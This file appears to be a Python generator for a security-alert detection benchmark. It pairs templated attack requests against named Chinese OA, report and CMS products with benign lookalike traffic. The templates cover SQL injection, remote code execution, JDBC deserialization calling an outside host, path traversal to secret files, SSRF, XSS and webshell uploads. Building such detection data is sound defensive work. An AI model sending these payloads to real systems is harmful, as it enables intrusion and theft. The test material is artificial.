"""Alerts about shops, offices, reports, articles and other business pages: attacks on them and the work done with them."""

from __future__ import annotations

from generator.families.alerts.secalertbench_topics import topic
from generator.scene import attack

_sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
_blind = attack("SQL Injection — Time-based Blind SQLi", "T1190", severity="CRITICAL")
_error = attack("SQL Injection — Error-based SQLi", "T1190", severity="HIGH")
_union = attack("SQL Injection — UNION-based SQLi", "T1190", severity="CRITICAL")
_code = attack("Remote Code Execution Exploit", "T1190", "T1059", severity="CRITICAL")
_files = attack("Path Traversal / Directory Traversal Attack", "T1083", "T1190", severity="HIGH")
_forgery = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")
_shell = attack("Web Shell", "T1505.003", "T1190", severity="CRITICAL")
_script = attack("Cross-Site Scripting (XSS) Attempt", "T1059.007", "T1190", severity="HIGH")

topic("sensor-shop-queries-tampered sensor-shop-queries-everyday", "sql sql other", "SQL注入攻击(参数)|HTTP_SQL注入尝试|电商系统SQL注入漏洞|SQL keyword in request", {
    _union: """
GET /goods/list?cat={n}&brand=«{n} union select 1,2,3,user(),5-- -»
GET /product/detail?sku=«-{n}' union all select null,null,concat(login,0x3a,pwd) from admin#»
POST /cart/add ¦¦ id=«{n} UNION SELECT @@version,2,3»&num=1
POST /api/search ¦¦ {"keyword":"{n}') UNION SELECT table_name,2 FROM information_schema.tables--","page":1}
""", _blind: """
GET /goods/list?cat=«{n} AND SLEEP(5)»&sort=price
GET /product/detail?sku=«{n}'; WAITFOR DELAY '0:0:5'--»
POST /order/query ¦¦ no=«{n}' AND 4=(SELECT 4 FROM PG_SLEEP(6))--»&state=1
GET /coupon?code=«{n}'xor(if(now()=sysdate(),sleep(6),0))xor'z»
POST /api/stock ¦¦ {"sku":"{n}","warehouse":"1) OR BENCHMARK(5000000,MD5(1))-- "}
""", _sql: """
GET /goods/list?cat=«{sqli}»
POST /member/address ¦¦ area=«{n}' and '7'='7»&id={n}
GET /goods/filter?attr=«{n} and 8=8»&attr2=«{n} and 8=9»
GET /store/near?lat=«30.1' or not 3=4-- »&lng=120.2
"""}, """
GET /goods/list?cat={n}&brand={n},{n},{n}&sort=⟨price|sales|new⟩&order=⟨desc|asc⟩
GET /goods/search?q=«{talk}»&in_stock=1
POST /cart/update ¦¦ items=«[{"sku":{big},"num":2},{"sku":{big},"num":1}]»&coupon=SUMMER-{n}
POST /api/search ¦¦ {"keyword":"{talk}","filters":{"price":{"gte":10,"lt":{big}},"or":[{"brand":"A"},{"brand":"B"}]},"page":1}
POST /order/comment ¦¦ order_id={big}&content=«{talk}»&stars=⟨1|4|5⟩
GET /store/near?lat=30.{big}&lng=120.{big}&radius=5000
POST /api/order/list ¦¦ {"status":["paid","shipped"],"where":{"createTime":[">=","{date}"]},"orderBy":"id desc","limit":20}
GET /coupon/list?ids={big},{big},{big}&select=all
GET /goods/compare?ids=«{n}|{n}|{n}»&columns=«name,price,union_price»
""", weight=1.5)

topic("sensor-office-suite-exploited sensor-office-suite-approvals", "code sql upload leak access", "泛微OA 远程代码执行漏洞|致远OA 任意文件上传|用友NC BeanShell 命令执行|通达OA 未授权访问|蓝凌OA SSRF|OA系统SQL注入漏洞", {
    _code: """
POST /weaver/bsh.servlet.BshServlet ¦¦ bsh.script=«exec("{cmd}");»&bsh.servlet.output=raw
POST /servlet/~ic/bsh.servlet.BshServlet ¦¦ bsh.script=«print(new String(Runtime.getRuntime().exec("{cmd}").getInputStream().readAllBytes()));»
POST /services%20/WorkflowServiceXml ¦¦ <soapenv:Envelope><soapenv:Body><web:doCreateWorkflowRequest><web:string><java.util.PriorityQueue serialization='custom'><javax.naming.ldap.Rdn_-RdnEntry/></java.util.PriorityQueue></web:string></web:doCreateWorkflowRequest></soapenv:Body></soapenv:Envelope>
POST /seeyon/htmlofficeservlet ¦¦ DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV⏎OPTION=S3WYOSWLBSGr⏎FILENAME=qfTdqfTdqfTdVaxJeAJQBRl3dExQyYOdNAlfeaxsdGhiyYlTcATdN1liN4KXwiVGzfT2dEg6⏎{page}
POST /sys/ui/sys_ui_component/sysUiComponent.do?method=upload ¦¦ fdNoTemplate=1&script=«{cmd}»
POST /general/appbuilder/web/portal/gateway/getdata ¦¦ activeTab=«%E5'%19,1=>eval(base64_decode("{coded}")))%3B/*»&id=19&module=Carouselimage
POST /uapws/service/nc.itf.ses.inittool.PortalSESInitToolService ¦¦ <soapenv:Envelope><soapenv:Body><ses:getDataSourceConfig><arg>Runtime.exec("{cmd}")</arg></ses:getDataSourceConfig></soapenv:Body></soapenv:Envelope>
""", _sql: """
POST /mobile/browser/WorkflowCenterTreeData.jsp ¦¦ formids=«11111111111)))union select NULL,value from (select loginid||password value from HrmResourceManager where id=1»
GET /js/hrm/getdata.jsp?cmd=getSelectAllId&sql=«select password as id from HrmResourceManager»
GET /seeyon/ajax.do?method=query&name=«{sqli}»
GET /yyoa/common/js/menu/test.jsp?doType=101&S1=«(SELECT user())»
GET /hrm/hrmAction.do?deptId=«{sqli}»
""", _files: """
GET /weaver/ln.FileDownload?fpath=../ecology/WEB-INF/web.xml
GET /seeyon/webmail.do?method=doDownloadAtt&filename=a.txt&filePath={up}conf/datasourceCtp.properties
POST /sys/ui/extend/varkind/custom.jsp ¦¦ var=«{"body":{"file":"file:///{secret}"}}»
GET /NCFindWeb?service=IPreAlertConfigService&filename={up}{secret}
GET /general/mytable/intel_view/video_file.php?MEDIA_DIR={up}inc/&MEDIA_NAME=oa_config.php
"""}, """
POST /weaver/weaver.workflow.request.RequestOperation ¦¦ requestid={big}&src=⟨submit|reject|save⟩&remark=«{talk}»&nodetype=1
POST /services/WorkflowService ¦¦ <soapenv:Envelope><soapenv:Body><web:getToDoWorkflowRequestList><web:in0>1</web:in0><web:in1>20</web:in1><web:in2>{n}</web:in2></web:getToDoWorkflowRequestList></soapenv:Body></soapenv:Envelope>
GET /seeyon/collaboration/collaboration.do?method=listPending&page={n}&rows=20
POST /seeyon/ajax.do?method=ajaxAction&managerName=colManager ¦¦ arguments=«[{"subject":"{talk}","id":"{big}"}]»
GET /js/hrm/getdata.jsp?cmd=getOrgTree&id={n}
POST /general/workflow/list/input_form/work_handle.php ¦¦ RUN_ID={big}&PRCS_ID=1&CONTENT=«{talk}»&ACTION=exec
GET /sys/attachment/sys_att_main/sysAttMain.do?method=download&fdId={hex}
POST /uapws/service/IMsgService ¦¦ <soapenv:Envelope><soapenv:Body><send><title>{talk}</title><to>{user}</to></send></soapenv:Body></soapenv:Envelope>
GET /weaver/ln.FileDownload?fileid={big}&download=1&requestid={big}
GET /general/mytable/intel_view/news.php?MODULE_ID={n}&MAX_COUNT=5
POST /km/review/km_review_main/kmReviewMain.do?method=update ¦¦ docSubject=«{talk}»&fdModelId={hex}&script=
""", weight=1.5)

topic("sensor-report-designers-abused sensor-report-designers-in-use", "sql code leak other", "帆软报表 任意代码执行|JeecgBoot jmreport 未授权SQL/SSTI|报表系统SQL注入|请求参数包含完整SQL语句", {
    _code: """
POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"select '<#assign ex=\\"freemarker.template.utility.Execute\\"?new()> ${ex(\\"{cmd}\\")}'"}
POST /jmreport/loadTableData ¦¦ {"dbSource":"","sql":"select '${\\"freemarker.template.utility.Execute\\"?new()(\\"{cmd}\\")}'","tableName":"test"}
POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbUrl":"jdbc:h2:mem:t;INIT=CREATE ALIAS E AS 'void e(String c) throws Exception{Runtime.getRuntime().exec(c);}'\\\\;CALL E('{cmd}')","dbType":"h2","dbDriver":"org.h2.Driver"}
GET /webroot/decision/view/ReportServer?test=ssti&n=«${__fr_locale__=sql('FRDemo',DECODE('ATTACH DATABASE "../webapps/webroot/{word}.jsp" as c'),1,1)}»
POST /webroot/decision/remote/design/channel ¦¦ {blob}
POST /api/dataset/preview ¦¦ {"script":"java.lang.Runtime.getRuntime().exec('{cmd}')","type":"groovy"}
POST /datasource/test ¦¦ {"url":"jdbc:mysql://{outside}/t?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor","user":"yso_CommonsCollections6"}
""", _error: """
POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"select 1 where updatexml(1,concat(0x7e,(select password from sys_user limit 1)),1)"}
GET /jeecg-boot/sys/dict/getDictItems/«sys_user,password,id,1=1 and extractvalue(1,concat(0x7e,user()))»
POST /jeecg-boot/sys/ng-alain/getDictItemsByTable ¦¦ table=«sys_user where updatexml(1,concat(0x7e,database()),1)»&key=username&text=password
GET /report/data?dept=«{faulty}»&month={n}
POST /olap/run ¦¦ {"dimension":"month","filter":"1=1) and 1=convert(int,@@version)--"}
GET /sys/api/queryTableDictItemsByCode?tableName=«sys_user&keyword=1' and exp(~(select*from(select user())a))--»
"""}, """
POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"{query}","dbSource":"","type":"0"}
POST /jmreport/loadTableData ¦¦ {"dbSource":"ds1","sql":"{query}","pageNo":1,"pageSize":10}
POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbUrl":"jdbc:mysql://{lan}:3306/erp?characterEncoding=UTF-8&useUnicode=true&useSSL=false","dbType":"MYSQL5.7","dbDriver":"com.mysql.cj.jdbc.Driver","dbUsername":"report"}
GET /webroot/decision/view/report?viewlet=«sales/{date}/month.cpt»&op=view&dept=«采购部»
POST /webroot/decision/view/form ¦¦ op=fr_dialog&cmd=parameters_d&__parameters__=«{"DEPT":"{talk}","YEAR":"2025"}»
POST /api/dataset/preview ¦¦ {"script":"{query}","type":"sql","params":{"area":"⟨华东|Nord|A1⟩"}}
GET /jeecg-boot/sys/dict/getDictItems/«sys_depart,depart_name,id»?_t={big}
POST /olap/run ¦¦ {"dimension":"month","measure":"sum(amount)","filter":"year = 2025 and (region = 'east' or region = 'west')","sql":"{query}"}
POST /superset/sql_json/ ¦¦ {"database_id":{n},"sql":"{query}","runAsync":false,"select_as_cta":false}
POST /api/card/{n}/query ¦¦ {"native":{"query":"{query}"},"type":"native","database":2}
POST /davinci/api/v3/views/{n}/getdata ¦¦ {"groups":["month"],"aggregators":[{"column":"amount","func":"sum"}],"filters":["{\\"name\\":\\"status\\",\\"operator\\":\\"in\\",\\"value\\":[\\"'1'\\"]}"],"orders":[]}
""", weight=1.8)

topic("sensor-articles-with-code-planted sensor-articles-saved-by-editors", "script script other sql", "富文本XSS攻击|HTTP请求体中发现HTML标签|存储型XSS|CMS 跨站脚本漏洞", {
    _script: """
POST /cms/article/save ¦¦ title=News&content=«<p>hello {xss}</p>»
POST /api/comments ¦¦ {"post":{n},"body":"<img src=x onerror=alert({n})>"}
GET /search?keyword=«{xss}»&type=1
POST /guestbook/add.php ¦¦ name=«{xss}»&mail=a%40b.com&text=hi
GET /news/show?id={n}&title=«{xss}»
POST /forum/reply ¦¦ tid={big}&message=«[img]x" onerror="{xss}[/img]»
GET /index.php?lang=«zh_CN{xss}»
POST /user/profile ¦¦ nick=«{xss}»&sign=x
GET /error?msg=«{xss}»
"""}, """
POST /cms/article/save ¦¦ title=«{talk}»&content=«<p style="text-align:center"><img src="/upload/{file}" alt="script" onload="resize(this)"></p><p>{talk}</p>»
POST /api/comments ¦¦ {"post":{n},"body":"{talk}"}
GET /search?keyword=«{talk}»&type=1
POST /editor/preview ¦¦ html=«<table border=1><tr><td onclick="sel(1)">1</td><td>{talk}</td></tr></table>»
POST /api/mail/template ¦¦ {"name":"newsletter","html":"<html><body><a href='javascript:void(0)'>{talk}</a><iframe src='https://www.youtube.com/embed/{hex}'></iframe></body></html>"}
POST /forum/reply ¦¦ tid={big}&message=«[code]if (a < b) alert("x")[/code] {talk}»
POST /cms/template/save ¦¦ path=index.html&body=«<script src="/static/jquery.min.js"></script><script>var page={n};</script>»
POST /api/statistics/code ¦¦ {"head":"<script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?{hex}';})();</script>"}
GET /error?msg=«用户名或密码错误, <请重试>»
POST /user/profile ¦¦ nick=«{person}»&sign=«<3 {talk}»
""")

topic("sensor-attachments-with-scripts sensor-attachments-of-staff", "upload upload code tool", "任意文件上传漏洞|上传文件内容包含脚本|可疑文件上传(扩展名)|Webshell上传", {
    _shell: """
POST /upload/file.php ¦¦ ------Web{hex}⏎Content-Disposition: form-data; name="file"; filename="{word}.php"⏎Content-Type: image/png⏎⏎{page}⏎------Web--
POST /ueditor/net/controller.ashx?action=catchimage&encode=utf-8 ¦¦ source[]=«http://{outside}/1.gif?.aspx»
POST /common/fileUpload ¦¦ ------Form{hex}⏎Content-Disposition: form-data; name="upfile"; filename="../../webapps/ROOT/{word}.jsp"⏎⏎{page}⏎------Form--
PUT /{word}.jsp/ ¦¦ {page}
PUT /fileserver/{word}.txt ¦ Destination: file:///opt/activemq/webapps/api/{word}.jsp ¦¦ {page}
POST /kindeditor/php/upload_json.php?dir=file ¦¦ ------K{hex}⏎Content-Disposition: form-data; name="imgFile"; filename="{word}.phtml"⏎⏎{page}⏎------K--
POST /api/avatar ¦¦ {"name":"{word}.jspx","image":"data:image/jsp;base64,{blob}","content":"<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter('c'))</jsp:scriptlet>"}
POST /seeyon/fileUpload.do?method=processUpload ¦¦ ------S{hex}⏎Content-Disposition: form-data; name="file1"; filename="{word}.jsp;.png"⏎⏎{page}⏎------S--
POST /index.php?m=attachment&c=upload ¦¦ ------P{hex}⏎Content-Disposition: form-data; name="Filedata"; filename=".htaccess"⏎⏎AddType application/x-httpd-php .jpg⏎------P--
"""}, """
POST /upload/file.php ¦¦ ------Web{hex}⏎Content-Disposition: form-data; name="file"; filename="{file}"⏎Content-Type: application/octet-stream⏎⏎%PDF-1.5 {blob}⏎------Web--
POST /ueditor/net/controller.ashx?action=uploadimage&encode=utf-8 ¦¦ ------U{hex}⏎Content-Disposition: form-data; name="upfile"; filename="⟨截图|photo|scan⟩{n}.png"⏎Content-Type: image/png⏎⏎PNG IHDR {blob}⏎------U--
POST /common/fileUpload ¦¦ ------Form{hex}⏎Content-Disposition: form-data; name="upfile"; filename="{file}"⏎⏎PK {blob}⏎------Form--
PUT /dav/shared/{file} ¦¦ {talk}
POST /kindeditor/php/upload_json.php?dir=image ¦¦ ------K{hex}⏎Content-Disposition: form-data; name="imgFile"; filename="logo{n}.jpg"⏎⏎JFIF Adobe Photoshop {blob}⏎------K--
POST /api/avatar ¦¦ {"name":"avatar{n}.jpg","image":"data:image/jpeg;base64,{blob}"}
POST /seeyon/fileUpload.do?method=processUpload ¦¦ ------S{hex}⏎Content-Disposition: form-data; name="file1"; filename="⟨合同|报价单|会议纪要⟩{n}.docx"⏎⏎PK word/document.xml {blob}⏎------S--
POST /repo/{micro}/upload ¦¦ ------P{hex}⏎Content-Disposition: form-data; name="Filedata"; filename="index.php.patch"⏎⏎--- a/index.php⏎+++ b/index.php⏎+<?php echo $title; ?>⏎------P--
POST /lms/homework ¦¦ ------L{hex}⏎Content-Disposition: form-data; name="work"; filename="Main.java"⏎⏎public class Main { public static void main(String[] a) { System.out.println("{talk}"); } }⏎------L--
""")

topic("sensor-preview-services-turned-inward sensor-preview-services-used", "redirect leak other download", "kkFileView 任意文件读取|SSRF服务端请求伪造|URL参数指向外部地址|图片代理SSRF漏洞", {
    _forgery: """
GET /getCorsFile?urlPath=«{inside}»
GET /onlinePreview?url=«{inside}»
GET /ueditor/php/controller.php?action=catchimage&source[]=«{inside}»
GET /uddiexplorer/SearchPublicRegistries.jsp?operator=«{inside}»&rdoSearch=name&btnSubmit=Search
POST /api/webhooks ¦¦ {"url":"{inside}","events":["push"]}
GET /image/proxy?src=«{inside}»&w=200
POST /import/url ¦¦ link=«{inside}»&type=xlsx
GET /share/page/proxy/alfresco?endpoint=«{inside}»
POST /api/pdf/render ¦¦ {"html":"<iframe src='{inside}'></iframe>"}
GET /rest/sharelinks/1.0/link?url=«{inside}»
"""}, """
GET /getCorsFile?urlPath=«https://files.{domain}/doc/{file}»
GET /onlinePreview?url=«http://{lan}:9000/oa/{file}»&fullfilename=«{file}»
POST /ueditor/php/controller.php?action=catchimage ¦¦ source[]=«https://mmbiz.qpic.cn/mmbiz_png/{hex}/640»
GET /onlinePreview?url=«aHR0cDovL2ZpbGVzLmV4YW1wbGU{hex}»
POST /api/webhooks ¦¦ {"url":"https://hooks.{domain}/ci/{hex}","events":["push","tag"]}
GET /image/proxy?src=«https://cdn.{site}/img/{n}.jpg»&w=⟨200|640⟩
POST /import/url ¦¦ link=«https://docs.{domain}/export/{file}»&type=xlsx
POST /api/pdf/render ¦¦ {"html":"<h1>{talk}</h1><img src='https://{domain}/logo.png'>"}
GET /oembed?url=«https://www.youtube.com/watch?v={hex}»&format=json
GET /sso/login?service=«http://{host}:8080/portal/index?redirect=/home»
POST /feed/subscribe ¦¦ feed=«https://www.{site}/rss.xml»
""")

topic("sensor-download-pages-climbing sensor-download-pages-serving", "traversal download leak", "任意文件下载漏洞|目录遍历(路径参数)|HTTP请求包含../|敏感路径访问", {
    _files: """
GET /download?file={up}{secret}
GET /file/down.jsp?path={up}{secret}&name=a.txt
GET /common/download/resource?resource=/profile/{up}{secret}
GET /static/{up}{secret}
POST /api/file/read ¦¦ {"path":"/{secret}","encoding":"utf8"}
GET /viewer?doc=file:///{secret}
GET /resource/md/get/url?url=..%2f..%2f..%2f{secret}
GET /plugins/{word}/image?name={up}{secret}%00.png
GET /index.php?m=wap&c=index&a=init&siteid=1&file={up}caches/configs/database.php
GET /manage/log/view?filename=/{secret}&base={up}
"""}, """
GET /download?file=«2025/03/{file}»
GET /file/down.jsp?path=«/upload/contract/{n}/{file}»&name=«{file}»
GET /common/download/resource?resource=«/profile/upload/{date}/{file}»
GET /static/themes/../common/css/style.css?v={n}
POST /api/file/read ¦¦ {"path":"projects/{micro}/README.md","ref":"main"}
GET /viewer?doc=«../docs/manual-v{n}.pdf»
GET /resource/md/get/url?url=«https://docs.{domain}/guide.md»
GET /manage/log/view?filename=app-{date}.log&lines=200
GET /help/..//images/passwd-reset.png
GET /attachment/export?ids={big},{big}&zip=true
""")
